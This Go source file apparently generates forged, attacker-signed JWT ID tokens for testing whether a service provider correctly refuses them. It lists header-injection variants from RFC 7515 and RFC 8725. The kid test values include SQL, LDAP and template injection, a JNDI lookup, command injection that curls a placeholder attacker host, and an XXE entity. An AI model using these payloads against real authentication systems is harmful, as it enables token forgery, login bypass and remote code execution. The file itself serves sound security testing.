package mutate

import (
	"cmp"
	"slices"
	"strings"
)

// byName sorts tokens, where they come out of a map.
func byName(all []SignedToken) {
	slices.SortFunc(all, func(a, b SignedToken) int { return cmp.Compare(a.Name, b.Name) })
}

// HeaderKeys makes ID tokens that an attacker's key signs, with a header that brings the key, or
// says where it is. Source: RFC 7515 sections 4.1.2 to 4.1.8, RFC 8725 section 3.10
func HeaderKeys() []SignedToken {
	return slices.Concat(jwkHeaders(), keyAddresses("jku", "key set"), rarer(keyAddresses("x5u", "certificate"), "x5u-user-info"), certificateHeaders(), keyIDs())
}

// rarer leaves all but one to deep runs, where another member has the same values.
func rarer(all []SignedToken, but string) []SignedToken {
	for i := range all {
		if all[i].Name != but {
			all[i].Depth = Deep
		}
	}
	return all
}

// byAttacker is a token that an attacker's RSA key signs.
func byAttacker(depth Depth, name, says string, members joseHeader) SignedToken {
	return refusedToken(depth, name, "brings "+says, Signing{Attacker: true, Header: members})
}

// jwkHeaders bring the key itself.
func jwkHeaders() []SignedToken {
	by := func(depth Depth, name, alg string, members joseHeader) SignedToken {
		return refusedToken(depth, name, "brings its own key for "+alg, Signing{Algorithm: alg, Attacker: true, Header: members})
	}
	return []SignedToken{
		by(Standard, "jwk-ec", "ES256", joseHeader{"jwk": "{jwk}"}),
		by(Deep, "jwk-ec-384", "ES384", joseHeader{"jwk": "{jwk}"}),
		by(Deep, "jwk-ec-512", "ES512", joseHeader{"jwk": "{jwk}"}),
		by(Standard, "jwk-okp", "EdDSA", joseHeader{"jwk": "{jwk}"}),
		by(Standard, "jwk-pss", "PS256", joseHeader{"jwk": "{jwk}"}),
		by(Deep, "jwk-ec-alone", "ES256", joseHeader{"jwk": "{jwk}", "kid": nil}),
		byAttacker(Standard, "jwk-private", "its own key with its private half", joseHeader{"jwk": "{private jwk}"}),
		byAttacker(Standard, "jwk-text", "its own key as text", joseHeader{"jwk": "{signer jwk}"}),
		byAttacker(Standard, "jwk-list", "its own key in a list", joseHeader{"jwk": []any{"{jwk}"}}),
		byAttacker(Deep, "jwk-set", "its own key in a key set", joseHeader{"jwk": joseHeader{"keys": []any{"{jwk}"}}}),
		byAttacker(Deep, "jwks", "its own key set", joseHeader{"jwks": joseHeader{"keys": []any{"{jwk}"}}}),
		byAttacker(Deep, "jwk-pem", "its own key in PEM form", joseHeader{"jwk": "{signer pem}"}),
		byAttacker(Deep, "jwk-url", "an address where a key should be", joseHeader{"jwk": "{attacker}/keys"}),
		byAttacker(Deep, "key", "its own key in a member called key", joseHeader{"key": "{signer pem}"}),
		refusedToken(Standard, "jwk-oct", "brings a secret as its own key", Signing{Algorithm: "HS256", Secret: "secret",
			Header: joseHeader{"jwk": joseHeader{"kty": "oct", "kid": "{kid}", "alg": "HS256", "k": "c2VjcmV0"}, "kid": nil}}),
	}
}

// keyAddresses say where the key is: at addresses which one comparison or another takes for the
// org's.
func keyAddresses(member, noun string) []SignedToken {
	at := func(depth Depth, name, says string, address any) SignedToken {
		return byAttacker(depth, member+"-"+name, "an address of its "+noun+" "+says, joseHeader{member: address})
	}
	return []SignedToken{
		at(Standard, "user-info", "which has the org's in front of its host", "{issuer}@{attacker host}/keys"),
		at(Deep, "user-info-path", "which has the org's and a path in front of its host", "{issuer}%2foauth2@{attacker host}/keys"),
		at(Deep, "backslash", "which has the org's and a backslash in front of its host", `{issuer}\@{attacker host}/keys`),
		at(Standard, "path", "which has the org's in its path", "{attacker}/keys/{issuer}/oauth2/v1/keys"),
		at(Standard, "query", "which has the org's in its query", "{attacker}/keys?{issuer}/oauth2/v1/keys"),
		at(Deep, "fragment", "which has the org's in its fragment", "{attacker}/keys#{issuer}/oauth2/v1/keys"),
		at(Deep, "space", "which has a space in front", " {attacker}/keys"),
		at(Deep, "line-break", "behind the org's and a line break", "{issuer}/oauth2/v1/keys\n{attacker}/keys"),
		at(Deep, "no-scheme", "which has no scheme", "//{attacker host}/keys"),
		at(Standard, "redirect", "which is the org's and leads on", "{issuer}/login/signout?fromURI={attacker}/keys"),
		at(Deep, "dots", "which leads out of the org's path", "{issuer}/oauth2/v1/keys/../../../../{attacker host}/keys"),
		at(Standard, "file", "which is a file's", "file:///dev/null"),
		at(Deep, "data", "which is the "+noun+" itself", "data:application/json,{signer jwks}"),
		at(Standard, "list", "in a list", []any{"{issuer}/oauth2/v1/keys", "{attacker}/keys"}),
		at(Deep, "object", "in an object", joseHeader{"url": "{attacker}/keys"}),
		byAttacker(Standard, member+"-alone", "an address of its "+noun+" and no kid", joseHeader{member: "{attacker}/keys", "kid": nil}),
		byAttacker(Deep, member+"-kid", "an address of its "+noun+" and a kid of its own", joseHeader{member: "{attacker}/keys", "kid": "of-my-own"}),
	}
}

// certificateHeaders bring a certificate, or its hash.
func certificateHeaders() []SignedToken {
	return []SignedToken{
		byAttacker(Standard, "x5c-alone", "its own certificate and no kid", joseHeader{"x5c": "{x5c}", "kid": nil}),
		byAttacker(Standard, "x5c-text", "its own key in PEM form as certificate", joseHeader{"x5c": "{signer pem}"}),
		byAttacker(Deep, "x5c-list", "its own key in PEM form in a list of certificates", joseHeader{"x5c": []any{"{signer pem}"}}),
		byAttacker(Deep, "x5c-empty", "an empty list of certificates", joseHeader{"x5c": []any{}}),
		refusedToken(Deep, "x5c-ec", "brings its own certificate for ES256", Signing{Algorithm: "ES256", Header: joseHeader{"x5c": "{x5c}"}}),
		refusedToken(Deep, "x5c-okp", "brings its own certificate for EdDSA", Signing{Algorithm: "EdDSA", Header: joseHeader{"x5c": "{x5c}"}}),
		byAttacker(Standard, "x5t", "the hash of its own certificate", joseHeader{"x5c": "{x5c}", "x5t": "{x5t}", "kid": nil}),
		byAttacker(Deep, "x5t-s256", "the other hash of its own certificate", joseHeader{"x5c": "{x5c}", "x5t#S256": "{x5t#S256}", "kid": nil}),
	}
}

// longMember is how many letters a long member of the header has. SPs that keep the ID token in a
// cookie run into the limits of HTTP beyond 16 kilobytes, which is not what is tried.
const longMember = 4 << 10

// keyIDs are kids that lead elsewhere than to the org's key of that id.
func keyIDs() []SignedToken {
	of := func(depth Depth, name, says string, kid any) SignedToken {
		return byAttacker(depth, "kid-"+name, says+" as kid", joseHeader{"kid": kid})
	}
	return []SignedToken{
		of(Standard, "user-info", "an address with the org's in front of its host", "{issuer}@{attacker host}/keys"),
		of(Deep, "no-scheme", "an address without scheme", "//{attacker host}/keys"),
		of(Standard, "path-out", "a path that leads to other keys of the org", "../../oauth2/v1/keys"),
		of(Deep, "path-absolute", "a path from the root", "/dev/null"),
		of(Deep, "file-url", "the address of a file", "file:///dev/null"),
		of(Standard, "query", "a query", "{kid}&jku={attacker}/keys"),
		of(Deep, "hash", "the right one with a hash and more", "{kid}#{attacker}/keys"),
		of(Standard, "sql-or", "SQL that is always true", "' OR '1'='1"),
		of(Deep, "sql-percent", "a pattern of SQL", "%"),
		of(Deep, "ldap", "a pattern of LDAP", "*)(uid=*"),
		of(Deep, "asterisk", "an asterisk", "*"),
		of(Deep, "pattern", "a pattern that fits everything", ".*"),
		of(Standard, "template", "a template", "{{7*7}}"),
		of(Deep, "template-fetch", "a template that asks the attacker", "${jndi:ldap://{attacker host}/a}"),
		of(Standard, "command", "a command that asks the attacker", "| curl {attacker}/kid"),
		of(Deep, "command-dollar", "another command that asks the attacker", "$(curl {attacker}/kid)"),
		of(Deep, "entity", "an XML document that asks the attacker", `<!DOCTYPE a [<!ENTITY b SYSTEM "{attacker}/kid">]><a>&b;</a>`),
		of(Standard, "pem", "its own key in PEM form", "{signer pem}"),
		of(Standard, "empty", "nothing", ""),
		of(Standard, "null", "null", nullJSON()),
		of(Standard, "missing", "nothing at all", nil),
		of(Standard, "number", "a number", 0),
		of(Standard, "list", "a list with the right one in it", []any{"{kid}"}),
		of(Standard, "object", "an object", joseHeader{"$ne": nil}),
		of(Deep, "true", "true", true),
		of(Standard, "long", "the right one and 4 kilobytes more", "{kid}"+strings.Repeat("a", longMember)),
		of(Standard, "nul", "the right one with a NUL behind it", "{kid}\x00"),
		of(Deep, "nul-more", "the right one with a NUL and more behind it", "{kid}\x00evil"),
		of(Deep, "space", "the right one with a space behind it", "{kid} "),
		of(Deep, "contains", "one that contains the right one", "evil-{kid}-evil"),
		of(Standard, "proto", "a name of JavaScript's", "__proto__"),
		of(Deep, "constructor", "another name of JavaScript's", "constructor"),
	}
}
